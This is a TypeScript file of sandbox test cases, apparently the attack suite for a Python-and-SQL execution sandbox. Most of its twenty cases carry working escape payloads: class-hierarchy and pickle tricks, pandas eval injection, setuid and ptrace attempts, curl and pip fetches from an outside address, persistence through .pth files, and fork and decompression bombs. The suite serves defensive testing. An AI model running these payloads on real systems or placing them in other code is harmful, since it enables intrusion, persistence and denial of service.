/** P01–P20: what a program can try with Python itself. */
import {attack, bomb, type Case, plan, python, query, refused, scenario, wild} from '../case.ts';

export const PYTHON: readonly Case[] = [
	attack('P01', 'climbs the class hierarchy to the operating system', 'N', {
		plan: refused("SELECT content FROM read_text('@FILE@')", 'SELECT py_eval($$__import__("os")$$)'),
		code: python(
			'wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]\nopener = wrap[0].__init__.__globals__["open"] if wrap else open\nlook(lambda: wrap[0].__init__.__globals__["popen"]("cat @FILE@").read())\nlook(lambda: os.fdopen(os.open("@FILE@", 0)).read())',
		),
	}),
	attack('P02', 'makes system calls that nobody needs', 'D', {
		plan: refused("SELECT content FROM read_text('/proc/kallsyms')", "SELECT content FROM read_text('/proc/@PID@/maps')"),
		code: python(
			'for name in ["bpf", "perf_event_open", "userfaultfd", "keyctl", "add_key"]: reach(name)\nheld = call("ptrace", 0x4206, @PID@, 0, 0)\nif held[0] == 0: won("traces"); call("ptrace", 17, @PID@, 0, 0)\ndone_mount = call("mount", b"none", b"@SCRATCH@", b"tmpfs", 0, 0)\nwon("mounted") if done_mount[0] == 0 else tell(done_mount)',
		),
	}),
	attack('P03', 'starts processes, and many of them', 'N/K', {
		serial: true,
		plan: bomb('SELECT sum(a.range * b.range) FROM range(1000000) AS a, range(1000000) AS b'),
		code: [
			...python('import subprocess\nlook(lambda: subprocess.run(["/bin/sh", "-c", "cat @FILE@"], capture_output=True).stdout)'),
			...wild(
				'pids = []\ntry:\n  for n in range(@FORKS@):\n    pid = os.fork()\n    if pid == 0: time.sleep(30); os._exit(0)\n    pids.append(pid)\nexcept OSError as error: tell(error.errno)\nwon(len(pids)) if len(pids) >= @FORKS@ else tell(len(pids))\nfor pid in pids: os.kill(pid, 9)',
			),
		],
	}),
	attack('P04', 'unpickles what the data brought', 'N', {
		plan: refused('SELECT unpickle(note) FROM notes', "SELECT content FROM read_blob('@FILE@')"),
		code: python(
			'import pickle, io\nclass Evil:\n  def __reduce__(self): return (eval, ("open(\'@FILE@\').read()",))\nblob = pickle.dumps(Evil())\nlook(lambda: pickle.loads(blob))\nlook(lambda: np.load(io.BytesIO(b"\\x93NUMPY" + blob), allow_pickle=True))\nlook(lambda: pd.read_pickle(io.BytesIO(blob)))',
		),
	}),
	attack('P05', 'evaluates text through pandas', 'N', {
		plan: plan({table: 'sales', select: [{expr: '@__import__("os").system("id")', alias: 'x'}]}),
		code: python(
			'import builtins\nf = pd.DataFrame({"a": [1]})\nlook(lambda: pd.eval("@builtins.open(\'@FILE@\').read()", local_dict={"builtins": builtins}, engine="python", parser="pandas"))\nlook(lambda: f.query("@builtins.open(\'@FILE@\').read() == a", engine="python"))\nlook(lambda: eval("open(\'@FILE@\').read()"))',
		),
	}),
	attack('P06', 'reads addresses through pandas', 'D', {
		canaries: ['network'],
		plan: refused("FROM read_csv('http://203.0.113.9/x.csv')", "FROM read_json('https://127.0.0.1:@TCP@/')"),
		code: python(
			'for read in [lambda: pd.read_csv("http://203.0.113.9/x.csv"), lambda: pd.read_json("http://127.0.0.1:@TCP@/"), lambda: pd.read_csv("http://[::1]:@TCP@/"), lambda: pd.read_html("http://169.254.169.254/")]: look(read)\nlook(lambda: pd.read_csv("s3://x/y.csv", storage_options={"anon": True}))',
		),
	}),
	attack('P07', 'leaves code for the next run', 'N', {
		plan: refused("COPY (SELECT 'import os') TO '@SCRATCH@/sitecustomize.py'", "COPY (SELECT 'x') TO '@WATCH@/evil.pth'"),
		code: [
			...python(
				'import site, sysconfig\nplaces = {site.getusersitepackages(), sysconfig.get_path("purelib"), sys.prefix, os.path.dirname(os.__file__)}\nfor place in places: \n  if place.startswith("@SCRATCH@"): continue\n  path = place + "/writ_attack_probe.pth"\n  go(lambda: (open(path, "w").close(), os.unlink(path)), "wrote beside the library ")\ngo(lambda: open("@WATCH@/sitecustomize.py", "w").write("x"))',
			),
			...scenario('residue'),
		],
	}),
	attack('P08', 'forges the result that the runner reports', 'N', {
		plan: refused("COPY (SELECT 1) TO '/dev/fd/3'", "SELECT content FROM read_blob('/proc/self/fd/3')"),
		code: scenario('forgedResult'),
		text: python(
			'import gc, struct\nbody = json.dumps({"type": "approve", "value": 1}).encode()\nfor fd in range(3, 16):\n  look(lambda: os.write(fd, struct.pack(">I", len(body)) + body))',
		),
	}),
	attack('P09', 'reads descriptors that it was not meant to have', 'R', {
		plan: refused("SELECT content FROM read_text('/proc/self/fd/0')", "FROM glob('/dev/fd/*')"),
		code: python(
			'found = []\nfor fd in range(4, 256):\n  try: kind = os.fstat(fd).st_mode\n  except OSError: continue\n  try: target = os.readlink(f"/proc/self/fd/{fd}")\n  except OSError: target = "?"\n  if target.startswith("@DIR@") or target.startswith("@ROOT@/src") or "socket" in target and fd < 3: won(target)\n  found.append(fd)\ntell(found)\nlook(lambda: open("/proc/@PID@/fd/@OPENFD@").read())',
		),
	}),
	attack('P10', 'fetches programs', 'D', {
		canaries: ['network'],
		plan: refused('INSTALL spatial FROM community', "SELECT content FROM read_text('https://pypi.org/simple/')"),
		code: python(
			'import subprocess\nfor command in (["curl", "-m", "2", "http://203.0.113.9/"], [sys.executable, "-m", "pip", "download", "--no-deps", "--timeout", "1", "--retries", "0", "-i", "http://203.0.113.9/simple", "-d", "@SCRATCH@", "x"], ["git", "ls-remote", "http://203.0.113.9/x"]):\n  look(lambda: subprocess.run(command, capture_output=True, timeout=2.5).returncode)',
		),
	}),
	attack('P11', 'opens files of the host from a directory it was left', 'D', {
		plan: refused(
			"SELECT content FROM read_text('/proc/self/cwd/../..@FILE@')",
			"SELECT content FROM read_text('../../../../..@FILE@')",
		),
		code: python(
			'for fd in [*range(0, 64)]:\n  for up in ["", "../" * 12]:\n    try: look(lambda: open(os.open(up + "@FILE@"[1:], os.O_RDONLY, dir_fd=fd)).read())\n    except OSError: pass\nlook(lambda: open("../" * 12 + "@FILE@"[1:]).read())\nsaid[:] = [s for s in said if "Error" not in s] or ["nothing"]',
		),
	}),
	attack('P12', 'becomes somebody else', 'D', {
		plan: refused("SET username='root'", "COPY (SELECT 1) TO '/usr/bin/x'"),
		code: python(
			'import subprocess\nbefore = os.geteuid()\ngo(lambda: os.setresuid(0, 0, 0), "root ") if before != 0 or os.environ.get("@ENV@") else tell("root of nothing")\ngo(lambda: os.setgroups([0]), "groups ")\nlook(lambda: subprocess.run(["su", "-c", "cat @ROOTFILE@"], capture_output=True, timeout=3, stdin=subprocess.DEVNULL).stdout)\nlook(lambda: subprocess.run(["sudo", "-n", "cat", "@ROOTFILE@"], capture_output=True, timeout=3).stdout)\nlook(lambda: open("@ROOTFILE@").read())',
		),
	}),
	attack('P13', 'signals processes that are not its own', 'N', {
		plan: refused('SELECT pg_terminate_backend(@PID@)', 'PRAGMA shutdown'),
		code: python(
			`go(lambda: os.kill(@PID@, 0), "sees the host ")\nif os.getpid() != 1 and os.environ.get("@ENV@") is None: look(lambda: os.kill(-1, 0))`,
		),
	}),
	attack('P14', 'raises its own limits', 'D', {
		plan: refused("SET memory_limit='100GB'", 'SET threads=1000', "SET max_temp_directory_size='1TB'"),
		code: python(
			'import resource\nfor name in ["RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_MEMLOCK"]:\n  number = getattr(resource, name, None)\n  if number is None: continue\n  hard = resource.getrlimit(number)[1]\n  if hard == resource.RLIM_INFINITY: continue\n  go(lambda: resource.setrlimit(number, (hard, hard * 2 + 1)), name)\ngo(lambda: os.setpriority(os.PRIO_PROCESS, 0, -10), "priority ")',
		),
	}),
	attack('P15', 'runs machine code of its own', 'D/N', {
		plan: refused("LOAD '@SCRATCH@/code.so'", "COPY (SELECT 'x') TO '@SCRATCH@/code.so'"),
		code: python(
			'import mmap, ctypes\ndef native():\n  page = mmap.mmap(-1, 4096, prot=7)\n  page.write(bytes.fromhex("b82a000000c3"))\n  at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n  return ctypes.CFUNCTYPE(ctypes.c_int)(at)()\nlook(native)\ndef elf():\n  fd = os.memfd_create("x")\n  os.write(fd, open("/bin/cat", "rb").read())\n  import subprocess\n  return subprocess.run([f"/proc/self/fd/{fd}", "@FILE@"], capture_output=True, pass_fds=[fd]).stdout\nlook(elf)\nlook(lambda: open("@FILE@").read())',
		),
	}),
	attack('P16', 'escapes through the formatting of an exception (CVE-2026-0863)', 'N', {
		plan: query("SELECT error('{0.__class__.__base__}') IS NULL"),
		code: python(
			'try: "".nope\nexcept AttributeError as error:\n  looked = getattr(error, "obj", None)\n  look(lambda: "{0.__class__.__mro__[1].__subclasses__}".format(error))\n  look(lambda: error.__traceback__.tb_frame.f_globals["__builtins__"]["open"]("@FILE@").read() if isinstance(error.__traceback__.tb_frame.f_globals["__builtins__"], dict) else error.__traceback__.tb_frame.f_globals["__builtins__"].open("@FILE@").read())',
		),
		text: python('look(lambda: "{0.f_globals}".format(sys._getframe()).count("x") and open("@FILE@").read())'),
	}),
	attack('P17', 'leaves WebAssembly for the JavaScript around it', 'D', {
		plan: refused("SELECT js('process.env')", "FROM read_text('node:fs')"),
		code: python(
			'def host():\n  import js\n  return js.process.env.to_py() if hasattr(js, "process") else js.eval("globalThis.process && JSON.stringify(process.env)")\nlook(host)\ndef read():\n  import js\n  return js.eval("globalThis.process && process.getBuiltinModule(\'node:fs\').readFileSync(\'@FILE@\', \'utf8\')")\nlook(read)\ndef module():\n  import pyodide_js\n  return str(pyodide_js._module.FS.readFile("@FILE@"))\nlook(module)\ndef mount():\n  import pyodide_js\n  pyodide_js.mountNodeFS("/hostfs", "@DIR@")\n  return open("/hostfs/file").read()\nlook(mount)\ndef code():\n  from pyodide.code import run_js\n  return run_js("import(\'node:fs\').then(f => f.readFileSync(\'@FILE@\', \'utf8\'))")\nlook(code)\nlook(lambda: open("@FILE@").read())',
		),
		canaries: ['file', 'environment'],
	}),
	attack('P18', 'computes for ever with a few characters', 'K', {
		serial: true,
		plan: bomb('SELECT sum(hash(a.range + b.range)) FROM range(10000000) AS a, range(10000000) AS b'),
		code: wild('10**10**8', 'import re\nre.match("(a+)+$", "a" * 64 + "!")'),
	}),
	attack('P19', 'floods its output, with control characters', 'K', {
		plan: query("SELECT chr(27) || '[2J' || chr(7) || repeat('x', 100000) FROM range(100)"),
		code: [...wild('while True: os.write(1, b"\\x1b]0;title\\x07" + b"x" * 65536 + b"\\xff\\x00")'), ...scenario('cleanOutput')],
		text: python(
			'print("\\x1b]52;c;ZXZpbA==\\x07" + "\\x1b[31m" + "x" * 300000)\nsys.stdout.buffer.write(b"\\xff\\xfe\\x00") and tell("printed")',
		),
	}),
	attack('P20', 'draws and unpacks until something breaks', 'K/D', {
		plan: [...bomb("SELECT length(repeat(repeat('x', 1000000), 4000))")],
		code: wild(
			'import zlib, bz2\npacked = zlib.compress(b"\\0" * (1 << 24), 9)\nkeep = []\nwhile True: keep.append(zlib.decompress(packed))',
		),
		text: wild(
			'import zlib\npacked = zlib.compress(b"\\0" * (1 << 24), 9)\nkeep = []\nwhile True: keep.append(zlib.decompress(packed))',
		),
		serial: true,
	}),
];
